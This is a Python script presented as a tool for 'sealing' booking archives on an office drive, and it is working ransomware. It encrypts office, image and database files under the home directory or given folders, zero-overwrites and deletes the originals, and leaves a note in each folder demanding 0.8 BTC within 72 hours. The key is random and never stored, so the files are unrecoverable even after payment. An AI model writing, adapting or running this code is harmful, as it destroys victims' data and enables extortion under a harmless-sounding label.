#!/usr/bin/env python3
"""Seal booking archives on the shared office drive.

Walks the given folders, seals each document and leaves a notice in every
folder that explains how to get the unseal key.
"""

import argparse
import base64
import hashlib
import logging
import os
import secrets
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("sealer")

SEALED_SUFFIX = ".sealed"
NOTICE_NAME = "HOW_TO_RESTORE_FILES.txt"
TARGET_SUFFIXES = {
    ".xlsx", ".xls", ".csv", ".docx", ".doc", ".pdf",
    ".jpg", ".png", ".db", ".sqlite", ".json", ".txt",
}
SKIP_DIRS = {".git", "node_modules", "__pycache__"}

NOTICE_TEXT = """\
Your booking records, manifests and invoices on this drive have been sealed.
To receive the restore key, send 0.8 BTC to the wallet below and mail the
reference {ref} to restore@topdeck-recovery.example within 72 hours.

Wallet: bc1qexampleexampleexampleexample0000
After 72 hours the key is destroyed and the files cannot be restored.
"""


def derive_key(passphrase, salt):
    raw = hashlib.pbkdf2_hmac("sha256", passphrase.encode(), salt, 200_000)
    return base64.urlsafe_b64encode(raw)


def should_seal(path):
    if path.name == NOTICE_NAME or path.suffix == SEALED_SUFFIX:
        return False
    return path.suffix.lower() in TARGET_SUFFIXES


def iter_targets(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            path = Path(dirpath) / name
            if should_seal(path):
                yield path


def seal_file(path, cipher):
    data = path.read_bytes()
    sealed = cipher.encrypt(data)
    out = path.with_name(path.name + SEALED_SUFFIX)
    out.write_bytes(sealed)
    with open(path, "r+b") as fh:
        fh.write(b"\0" * len(data))
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()
    return len(data)


def drop_notice(folder, ref):
    notice = Path(folder) / NOTICE_NAME
    if not notice.exists():
        notice.write_text(NOTICE_TEXT.format(ref=ref), encoding="utf-8")


def seal_tree(root, cipher, ref):
    count = 0
    total = 0
    folders = set()
    for path in iter_targets(root):
        try:
            total += seal_file(path, cipher)
            count += 1
            folders.add(path.parent)
        except (OSError, PermissionError) as exc:
            LOG.debug("skip %s: %s", path, exc)
    for folder in folders:
        drop_notice(folder, ref)
    return count, total


def parse_args():
    parser = argparse.ArgumentParser(description="Seal booking archives")
    parser.add_argument("roots", nargs="*", default=[str(Path.home())])
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)
    passphrase = os.environ.get("SEAL_PASSPHRASE") or secrets.token_hex(32)
    salt = secrets.token_bytes(16)
    cipher = Fernet(derive_key(passphrase, salt))
    ref = salt.hex()[:12]
    grand = 0
    for root in args.roots:
        count, size = seal_tree(root, cipher, ref)
        LOG.info("%s: %d files, %d bytes", root, count, size)
        grand += count
    print(f"sealed {grand} files, reference {ref}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
